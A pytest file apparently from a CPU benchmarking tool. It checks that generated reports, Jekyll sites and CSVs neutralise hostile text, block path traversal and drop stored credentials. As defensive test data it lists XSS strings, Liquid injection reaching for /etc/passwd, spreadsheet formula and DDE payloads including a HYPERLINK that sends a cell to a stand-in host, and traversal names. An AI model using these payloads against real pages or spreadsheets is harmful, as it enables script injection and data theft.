"""Results folders travel, so the text in them is hostile until shown otherwise (issue 20).

Driven through the real CLI (subprocesses, real files): a results folder whose failure reasons, CPU brand and
setting names hold script tags, attribute breakers, Liquid, Markdown table breakers, mathtext, a front-matter
breaker, newlines, a bidirectional override and a very long string is rendered by ``cpubench report`` and
``cpubench pages``; both outputs are built with Jekyll and every page is opened in headless Chromium with a probe
that hooks ``alert``/``console.*`` before anything else runs: no script of the data runs, no element or attribute
is made from the data, no Liquid is evaluated (the literal ``{{ site`` is in the page), every image loads and every
table row keeps its cells. Then: text from records never becomes a path outside ``-o``; ``pages`` and ``report``
refuse an ``-o`` they must not write, in one line; and no credential an old folder holds is copied into what
``report``, ``compare`` and ``pages`` write.
"""

from __future__ import annotations

import csv
import html
import json
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from cpubench.render import escape
from cpubench.results import store
from cpubench.spec import axes
from tf_cnn_benchmarks.record import RunRecord, Samples

ROOT = Path(__file__).resolve().parents[1]
HOST, OTHER = "hostbox", "otherbox"

# Each payload that could run script sets window.__pwned (and calls alert, which the probe hooks).
HOSTILE = [
    "<script>window.__pwned=1;alert(1)</script>",
    '" onerror="window.__pwned=1;alert(1)" x="',
    "' onmouseover='window.__pwned=1",
    '<img src=x onerror="window.__pwned=1;alert(1)">',
    "<svg/onload=window.__pwned=1>",
    "{{ site }}",
    "{{ site.pages | size }}",
    "{% include /etc/passwd %}",
    "{% endraw %}<script>window.__pwned=1</script>{% raw %}",
    "</td></tr></table><script>window.__pwned=1</script>",
    "a | b | c",
    "`code` and ``` a fence",
    "$x$ and $\\frac{1}{$ and $$y$$",
    "---\nlayout: evil\n---",
    "line one\nline two\r\n# a heading\n<script>window.__pwned=1</script>",
    "\u202etxt.exe\u202c right to left",
    "[click](javascript:window.__pwned=1) ![i](x)",
    '{: onclick="window.__pwned=1"} *x*{: onmouseover="alert(1)"}',
    "&lt;script&gt;window.__pwned=1&lt;/script&gt; &#123;&#123; site &#125;&#125;",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 nul\x00 bell\x07",
    "x" * 5000,
    '=HYPERLINK("http://example.invalid/?"&A1,"open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "\uff1d1+1",
]
# What a spreadsheet reads as the start of a formula (escape.csv_cell's list, spelled out here to check it).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
SECRETS = {"TF_TOKEN_app_terraform_io": "tok-3b1f9e7a", "TF_VAR_db_password": "pw-77c2e1d0", "TF_VAR_api_key": "k-5d0a"}


def cpubench(args: list[str], cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "cpubench", *args], cwd=cwd, capture_output=True, text=True,
                          timeout=600)  # fmt: skip


def one_line_error(p: subprocess.CompletedProcess[str], verb: str) -> None:
    """Exit 2 and one line on stderr, ``cpubench VERB: error: ...``: never a traceback."""
    assert p.returncode == 2, (p.returncode, p.stdout, p.stderr)
    lines = p.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"cpubench {verb}: error: "), p.stderr
    assert "Traceback" not in p.stderr


# ------------------------------------------------------------------------------------------------- the folder


def params(threads: int, placement: str = "sequential", memory: str = "local") -> dict[str, Any]:
    p = {**axes.defaults(), "execution": "graph", "num_intra_threads": threads, "num_inter_threads": 1,
         "placement": placement, "memory": memory}  # fmt: skip
    p.pop("model")
    p.pop("batch_size")
    return p


def write_lines(root: Path, host: str, records: list[dict[str, Any]]) -> None:
    """Append records as an old or crafted folder holds them: written as they are, not through the store's writer."""
    with (root / host / store.RUNS_FILE).open("a") as f:
        for rec in records:
            f.write(json.dumps(rec) + "\n")


def record(host: str, n: int, model: str, p: dict[str, Any], batch: int = 1, repeat: int = 0, **kw: Any) -> dict:
    rec = RunRecord(host_id=host, setting=kw.pop("setting", axes.setting_name(p)), params=p, model=model,
                    batch_size=batch, num_devices=1, repeat=repeat, run_hash=f"{host}-{n:04d}")  # fmt: skip
    status, reason = kw.pop("status", "ok"), kw.pop("reason", None)
    if status == "ok":
        rec = rec.with_samples(Samples(batch, tuple(0.01 * batch / p["num_intra_threads"] * f
                                                    for f in (1.0, 1.1, 0.9, 1.05))))  # fmt: skip
    else:
        rec.status, rec.reason = status, reason
    d = rec.to_dict()
    d.update(kw)
    return d


def hostile_folder(root: Path) -> Path:
    """Two hosts: ``hostbox`` with hostile text in every place a folder can hold text (and old-style credentials in
    its environments), ``otherbox`` plain, so the report has a relative table and compare has two sides."""
    data = root / "data"
    brand = " / ".join(s for s in HOSTILE if len(s) < 200)
    store.write_host(data, {"host_id": HOST, "machine_fingerprint": "fp-hostile", "cpu_brand": brand,
                            "env": {"TF_TOKEN_app_terraform_io": SECRETS["TF_TOKEN_app_terraform_io"],
                                    "OMP_NUM_THREADS": "2"}})  # fmt: skip
    store.write_host(data, {"host_id": OTHER, "machine_fingerprint": "fp-other", "cpu_brand": "Plain CPU"})
    thread_env = {"OMP_NUM_THREADS": "2", "TF_VAR_db_password": SECRETS["TF_VAR_db_password"]}
    env = {"TF_VAR_api_key": SECRETS["TF_VAR_api_key"]}
    for host in (HOST, OTHER):
        recs, n = [], 0
        for t in (1, 2):
            for b in (1, 2):
                for r in range(2):
                    n += 1
                    recs.append(record(host, n, "lenet", params(t), b, r, thread_env=thread_env, env=env))
        for i, text in enumerate(HOSTILE if host == HOST else ["plain failure"]):
            n += 1
            recs.append(record(host, n, "trivial", params(1), repeat=i, status="failed", reason=text,
                               thread_env=thread_env))  # fmt: skip
            n += 1  # the pages' NUMA sections quote the reasons of interleave and remote runs that did not run
            recs.append(record(host, n, "lenet", params(1, placement="interleave"), repeat=i, status="skipped",
                               reason=f"n/a: {text}"))  # fmt: skip
            n += 1
            recs.append(record(host, n, "lenet", params(1, memory="remote"), repeat=i, status="skipped",
                               reason=f"n/a: {text}"))  # fmt: skip
            if host == HOST:  # a setting name is free text in a record (the store checks it only where it is a path)
                n += 1
                recs.append(record(host, n, "lenet", params(1), repeat=100 + i, setting=text))
        write_lines(data, host, recs)
    return data


@pytest.fixture(scope="module")
def rendered(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The hostile folder, and ``report`` (with plots) and ``pages`` (with plots) run over it."""
    work = tmp_path_factory.mktemp("hostile")
    hostile_folder(work)
    for args in (["report", "data", "-o", "report", "--no-model-table", "--docs", "docs"],
                 ["pages", "data", "-o", "site"]):  # fmt: skip
        p = cpubench(args, work)
        assert p.returncode == 0, p.stderr[-3000:]
        assert "Traceback" not in p.stderr
    return work


# ------------------------------------------------------------------------------------------ the escape module


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_each_escape_keeps_the_text_and_drops_its_power(text: str) -> None:
    md = escape.md_text(text)
    assert "\n" not in md and "\r" not in md and "<" not in md and "{" not in md and "}" not in md
    assert not re.search(r"(?<!\\)(?:\\\\)*[|`$]", md)  # every pipe, backtick and dollar escaped
    assert not re.search(r"\][ \t]*[(\[]", md)  # no link or image
    assert "\x1b" not in md and "\u202e" not in md and "\x00" not in md
    attr = escape.html_attr(text)
    assert not set(attr) & set("<>\"'{}") and html.unescape(attr) == escape.one_line(text)
    # A front-matter value reads back as exactly what the layout must print: the text, HTML-escaped.
    front = yaml.safe_load(f"---\ntitle: {escape.front_matter_title(text)}\n")
    assert front == {"title": escape.html_text(text)}
    assert yaml.safe_load(f"v: {escape.yaml_string(text)}") == {"v": text}
    label = escape.plot_text(text)
    assert len(label) <= 2 * escape.PLOT_TEXT_MAX and not re.search(r"(?<!\\)\$", label)
    assert "\x1b" not in escape.plain(text) and "\n" not in escape.plain(text)


def test_a_csv_cell_never_starts_a_formula_and_numbers_stay_numbers() -> None:
    for text in HOSTILE:
        cell = escape.csv_cell(text)
        # the text as it is, but the control characters and direction overrides shown as everywhere else
        assert not str(cell).startswith(FORMULA_START) and str(cell).lstrip("'") == escape.neutral(text).lstrip("'")
    assert escape.csv_cell("-2") == "'-2" and escape.csv_cell(-2.5) == -2.5 and escape.csv_cell(None) is None
    assert escape.csv_cell("resnet50") == "resnet50"


def test_ordinary_text_is_left_as_it_is() -> None:
    for text in ("syn-parameter_server-1cpus-inference-intra2", "Intel(R) Xeon(R) Gold 6248 CPU @ 2.50GHz",
                 "lenet on s2-a: 2 of 2 repeats failed: exit code 1: out of memory [1]; CV 7.1% > 5%",
                 "trivial (bs 4)", "12.34 ~*![3]", "\u2248 1.02 [0.97\u20131.08]"):  # fmt: skip
        assert escape.md_text(text) == text and escape.md_cell(text) == text
    assert escape.md_cell(None) == escape.MISSING


# ------------------------------------------------------------------------------------ report and pages, built

PROBE = """<script id="cpubench-probe">
(function () {
  var calls = [];
  ["alert", "confirm", "prompt", "print"].forEach(function (n) { window[n] = function () { calls.push(n); }; });
  ["log", "info", "warn", "error", "debug"].forEach(function (n) {
    console[n] = function () { calls.push("console." + n); };
  });
  window.addEventListener("load", function () { setTimeout(function () {
    var bad = [], tables = [];
    Array.prototype.forEach.call(document.querySelectorAll("*"), function (el) {
      Array.prototype.forEach.call(el.attributes, function (a) {
        var v = a.value.replace(/\\s/g, "").toLowerCase();
        if (a.name.indexOf("on") === 0 || v.indexOf("javascript:") === 0) { bad.push(el.tagName + " " + a.name); }
      });
      if (/^(IFRAME|OBJECT|EMBED|BASE|FORM|SVG|svg|MATH)$/.test(el.tagName)) { bad.push(el.tagName); }
      if (el.tagName === "SCRIPT" && el.id !== "cpubench-probe" && el.textContent.indexOf("imagesLoaded") < 0) {
        bad.push("SCRIPT " + el.textContent.slice(0, 80));
      }
    });
    Array.prototype.forEach.call(document.querySelectorAll("table"), function (t) {
      var widths = Array.prototype.map.call(t.rows, function (r) { return r.cells.length; });
      tables.push(widths);
    });
    var images = Array.prototype.slice.call(document.images);
    var loaded = images.filter(function (i) { return i.complete && i.naturalWidth > 0; }).length;
    document.documentElement.setAttribute("data-probe", JSON.stringify({
      pwned: window.__pwned === undefined ? null : String(window.__pwned), calls: calls, bad: bad, tables: tables,
      images: images.length, loaded: loaded, text: document.body ? document.body.textContent : ""}));
  }, 50); });
})();
</script>
"""


def jekyll_build(source: Path, dest: Path) -> None:
    p = subprocess.run([shutil.which("jekyll") or "jekyll", "build", "--source", str(source), "--destination",
                        str(dest)], capture_output=True, text=True, timeout=300)  # fmt: skip
    assert p.returncode == 0, p.stdout[-2000:] + p.stderr[-2000:]


def probe(page: Path, profile: Path) -> dict[str, Any]:
    """Open ``page`` (with the probe put before anything else in it) in headless Chromium; what the probe saw."""
    text = page.read_text()
    page.write_text(text.replace("<head>", "<head>" + PROBE, 1) if "<head>" in text else PROBE + text)
    dom = subprocess.run([shutil.which("chromium") or "chromium", "--headless", "--no-sandbox", "--disable-gpu",
                          "--virtual-time-budget=5000", f"--user-data-dir={profile}", "--dump-dom", page.as_uri()],
                         check=True, capture_output=True, text=True, timeout=300).stdout  # fmt: skip
    m = re.search(r'data-probe="([^"]*)"', dom)
    assert m, dom[-2000:]
    return json.loads(html.unescape(m.group(1)))


def check_page(seen: dict[str, Any], name: str) -> None:
    assert seen["pwned"] is None and seen["calls"] == [] and seen["bad"] == [], (name, seen["bad"], seen["calls"])
    assert seen["loaded"] == seen["images"], (name, seen["loaded"], seen["images"])
    for widths in seen["tables"]:
        assert len(set(widths)) == 1, (name, widths)  # no cell split or swallowed a row's cells


def test_outputs_hold_the_text_and_nothing_it_could_do(rendered: Path) -> None:
    """The Markdown and front matter themselves: the text is there, shown literally; nothing of it is live."""
    summary = (rendered / "report" / "summary.md").read_text()
    site = rendered / "site"
    pages = [site / "index.md", site / "summary.md", *sorted((site / HOST).glob("*.md"))]
    for md in [summary, *(p.read_text() for p in pages)]:
        assert "{{" not in md and "{%" not in md and "<script" not in md and "<img src=x" not in md
        assert "\u202e" not in md and "\x1b" not in md and "\x00" not in md
    assert "&#123;&#123; site &#125;&#125;" in summary and "\\u202etxt.exe" in summary
    lenet = (site / HOST / "lenet.md").read_text()
    assert lenet.startswith('---\nlayout: scalebench\ntitle: "lenet"\n---\n')
    assert lenet.count("\n---\n") == 1  # the data's "---" lines did not end or start a front matter
    assert "&#123;% include /etc/passwd %&#125;" in lenet


def test_no_csv_cell_the_outputs_hold_is_a_formula(rendered: Path) -> None:
    """results.csv, relative.csv and the pages' CSVs open in a spreadsheet as text: the failure reasons and setting
    names that start like a formula are there, each behind a ``'``."""
    paths = [*sorted((rendered / "report").glob("*.csv")), *sorted((rendered / "site").rglob("*.csv"))]
    assert {p.name for p in paths} >= {"results.csv", "relative.csv"}
    for path in paths:
        with path.open(newline="", encoding="utf-8") as f:
            for row in csv.reader(f):
                for cell in row:
                    try:
                        float(cell)
                        continue  # a figure, negative or not, is a number to a spreadsheet
                    except ValueError:
                        assert not cell.startswith(FORMULA_START), (path.name, cell[:80])
    results = (rendered / "report" / "results.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in results and "'@SUM(1+1)" in results and "'\uff1d1+1" in results


@pytest.mark.skipif(not (shutil.which("jekyll") and shutil.which("chromium")), reason="needs jekyll and chromium")
def test_built_sites_run_no_script_evaluate_no_liquid_and_load_every_image(rendered: Path, tmp_path: Path) -> None:
    """Both outputs built with Jekyll (the report's summary as a docs site renders it: with front matter, so Liquid
    runs over it) and every page opened in Chromium."""
    built = tmp_path / "site"
    jekyll_build(rendered / "site", built)
    docs = tmp_path / "docs-src"
    shutil.copytree(rendered / "docs", docs)
    (docs / "_config.yml").write_text("markdown: kramdown\n")
    (docs / "summary.md").write_text("---\ntitle: summary\n---\n" + (docs / "summary.md").read_text())
    built_docs = tmp_path / "docs"
    jekyll_build(docs, built_docs)

    pages = sorted(built.rglob("*.html")) + [built_docs / "summary.html"]
    assert len(pages) >= 4 and (built / HOST / "lenet.html") in pages
    texts = {}
    for page in pages:
        seen = probe(page, tmp_path / "profile")
        check_page(seen, str(page))
        texts[page.name if page.parent != built / HOST else f"{HOST}/{page.name}"] = seen["text"]
    # Liquid was not evaluated: the data's own text is in the built pages, literally.
    for name in (f"{HOST}/lenet.html", "summary.html"):
        assert "{{ site }}" in texts[name] and "{% include /etc/passwd %}" in texts[name], name
        assert "<script>window.__pwned=1" in texts[name]  # shown as text, never run
    assert texts["summary.html"].count("x" * 5000) >= 1


def test_compare_prints_no_escape_sequence(rendered: Path) -> None:
    for extra in ([], ["--json"]):
        p = cpubench(["compare", f"data/{HOST}", f"data/{OTHER}", *extra], rendered)
        assert p.returncode == 0, p.stderr
        assert "\x1b" not in p.stdout and "\u202e" not in p.stdout
        assert not any(v in p.stdout for v in SECRETS.values())


# ------------------------------------------------------------------------------------- names from data are data


def test_a_model_that_is_a_path_writes_nothing_outside_out(tmp_path: Path) -> None:
    """The store's reader skips a record whose model is not a plain name (``runs.jsonl:LINE: ... skipped``), so the
    site is written without it; nothing named by it appears anywhere."""
    data = tmp_path / "data"
    store.write_host(data, {"host_id": HOST, "machine_fingerprint": "fp"})
    write_lines(data, HOST, [record(HOST, 1, "lenet", params(1)), record(HOST, 2, "../../../ESCAPED", params(1))])
    out = tmp_path / "a" / "b" / "c" / "out"
    p = cpubench(["pages", "data", "-o", str(out)], tmp_path)
    if p.returncode == 2:
        one_line_error(p, "pages")
    else:
        assert p.returncode == 0 and "runs.jsonl:2:" in p.stderr and "skipped" in p.stderr, p.stderr
    assert not [f for f in tmp_path.rglob("*ESCAPED*")], list(tmp_path.rglob("*ESCAPED*"))


@pytest.mark.parametrize("field", ["execution", "framework"])
def test_a_mode_that_is_a_path_is_refused_before_anything_is_written(tmp_path: Path, field: str) -> None:
    """Framework and execution become parts of the pages' image and CSV names: a value that is not a plain name
    stops ``pages`` in one line (exit 2) before it writes anything, so no half-written site is left either."""
    data = tmp_path / "data"
    store.write_host(data, {"host_id": HOST, "machine_fingerprint": "fp"})
    bad = record(HOST, 2, "lenet", params(1), 2)
    if field == "execution":
        bad["params"]["execution"] = "../../../ESCAPED"
    else:
        bad["framework"] = "../../../ESCAPED"
    write_lines(data, HOST, [record(HOST, 1, "lenet", params(1)), bad])
    out = tmp_path / "a" / "b" / "c" / "out"
    p = cpubench(["pages", "data", "-o", str(out)], tmp_path)
    if p.returncode == 2:
        one_line_error(p, "pages")
        assert "ESCAPED" in p.stderr and not out.exists()
    else:  # a reader that skips such a record (a later store) is as good: the site is written without it
        assert p.returncode == 0 and "skipped" in p.stderr, p.stderr
    assert not [f for f in tmp_path.rglob("*ESCAPED*")], list(tmp_path.rglob("*ESCAPED*"))


# ----------------------------------------------------------------------------------------- where -o may write


@pytest.fixture
def small(tmp_path: Path) -> Path:
    data = tmp_path / "data"
    store.write_host(data, {"host_id": HOST, "machine_fingerprint": "fp"})
    write_lines(data, HOST, [record(HOST, 1, "lenet", params(1)), record(HOST, 2, "lenet", params(2))])
    return tmp_path


def test_pages_refuses_an_out_that_is_a_file(small: Path) -> None:
    (small / "taken").write_text("mine\n")
    one_line_error(cpubench(["pages", "data", "-o", "taken", "--no-plots"], small), "pages")
    assert (small / "taken").read_text() == "mine\n"


def test_report_refuses_an_out_that_is_a_file(small: Path) -> None:
    (small / "taken").write_text("mine\n")
    one_line_error(cpubench(["report", "data", "-o", "taken", "--no-model-table", "--no-plots"], small), "report")
    p = cpubench(["report", "data", "-o", "out", "--docs", "taken", "--no-model-table", "--no-plots"], small)
    one_line_error(p, "report")
    assert (small / "taken").read_text() == "mine\n"


def test_report_writes_into_a_non_empty_folder_only_when_it_wrote_it(small: Path) -> None:
    theirs = small / "theirs"
    theirs.mkdir()
    (theirs / "summary.md").write_text("my own notes\n")
    p = cpubench(["report", "data", "-o", "theirs", "--no-model-table", "--no-plots"], small)
    one_line_error(p, "report")
    assert "not empty" in p.stderr and (theirs / "summary.md").read_text() == "my own notes\n"


def test_report_removes_only_the_stale_plots_it_drew(small: Path) -> None:
    """A second report into its own folder removes the plots of settings no longer in the data, and nothing else:
    not a PNG someone put there, not one a ``--no-plots`` report left, not a name the marker gives outside plots/."""
    args = ["report", "data", "-o", "out", "--no-model-table"]
    assert cpubench(args, small).returncode == 0
    plots = small / "out" / "plots"
    drawn = sorted(p.name for p in plots.glob("*.png"))
    assert drawn and all(f"\n{n}\n" in (small / "out" / ".cpubench-report").read_text() for n in drawn)
    (plots / "mine.png").write_bytes(b"\x89PNG mine")
    (small / "keep.png").write_bytes(b"\x89PNG keep")
    with (small / "out" / ".cpubench-report").open("a") as f:
        f.write("../../keep.png\n")  # a marker from a folder someone sent: never a path
    # The data changes: every record of the first setting is gone, so its plot is stale.
    runs = small / "data" / HOST / store.RUNS_FILE
    first, second = runs.read_text().splitlines()
    runs.write_text(second + "\n")
    assert cpubench([*args, "--no-plots"], small).returncode == 0
    assert sorted(p.name for p in plots.glob("*.png")) == sorted([*drawn, "mine.png"])  # --no-plots removes none
    assert cpubench(args, small).returncode == 0
    now = sorted(p.name for p in plots.glob("*.png"))
    assert "mine.png" in now and len(now) == len(drawn) and now != sorted([*drawn, "mine.png"])
    assert (small / "keep.png").read_bytes() == b"\x89PNG keep"


def test_report_writes_again_into_a_report_from_before_the_marker(small: Path) -> None:
    old = small / "old"
    shutil.copytree(ROOT / "tests" / "golden" / "schema2" / "report", old)
    assert not (old / ".cpubench-report").exists() and (old / "results.json").is_file()
    p = cpubench(["report", "data", "-o", "old", "--no-model-table", "--no-plots"], small)
    assert p.returncode == 0, p.stderr
    assert (old / ".cpubench-report").is_file() and HOST in (old / "summary.md").read_text()


def test_pages_refuses_a_data_folder_without_hosts(small: Path) -> None:
    (small / "empty").mkdir()
    p = cpubench(["pages", "empty", "-o", "site", "--no-plots"], small)
    one_line_error(p, "pages")
    assert "no host folders" in p.stderr and not (small / "site").exists()


def test_pages_writes_into_a_non_empty_folder_only_when_it_wrote_it(small: Path) -> None:
    theirs = small / "theirs"
    (theirs / "_layouts").mkdir(parents=True)
    (theirs / "index.md").write_text("my own site\n")
    (theirs / "_config.yml").write_text("title: mine\n")
    p = cpubench(["pages", "data", "-o", "theirs", "--no-plots"], small)
    one_line_error(p, "pages")
    assert "not empty" in p.stderr
    assert (theirs / "index.md").read_text() == "my own site\n" and (
        theirs / "_config.yml"
    ).read_text() == "title: mine\n"
    assert sorted(x.name for x in theirs.iterdir()) == ["_config.yml", "_layouts", "index.md"]

    (small / "fresh").mkdir()  # an empty folder, then the same folder again: a site of ours
    for _ in range(2):
        p = cpubench(["pages", "data", "-o", "fresh", "--no-plots"], small)
        assert p.returncode == 0, p.stderr
    assert (small / "fresh" / ".cpubench-pages").is_file() and (small / "fresh" / HOST / "lenet.md").is_file()


# ------------------------------------------------------------------------------------------ never a credential


def test_no_credential_an_old_folder_holds_is_copied(rendered: Path) -> None:
    """host.json's env holds TF_TOKEN_app_terraform_io and the records' thread_env TF_VAR_db_password (and env
    TF_VAR_api_key), as folders written before the allowlist do: report, pages and compare copy none of them,
    while the variables that matter (OMP_NUM_THREADS) are kept."""
    assert SECRETS["TF_VAR_db_password"] in (rendered / "data" / HOST / store.RUNS_FILE).read_text()
    written = [p for d in ("report", "docs", "site") for p in (rendered / d).rglob("*") if p.is_file()]
    assert any(p.name == "results.json" for p in written) and any(p.name == "results.csv" for p in written)
    for p in written:
        blob = p.read_bytes()
        for name, value in SECRETS.items():
            assert value.encode() not in blob, (p, name)
    doc = json.loads((rendered / "report" / "results.json").read_text())
    host = next(h for h in doc["hosts"] if h["host_id"] == HOST)
    assert host["env"] == {"OMP_NUM_THREADS": "2"}
    run = next(r for r in doc["runs"] if r["host_id"] == HOST and r.get("thread_env"))
    assert run["thread_env"] == {"OMP_NUM_THREADS": "2"} and not run.get("env")
    assert "OMP_NUM_THREADS=2" in (rendered / "report" / "results.csv").read_text()
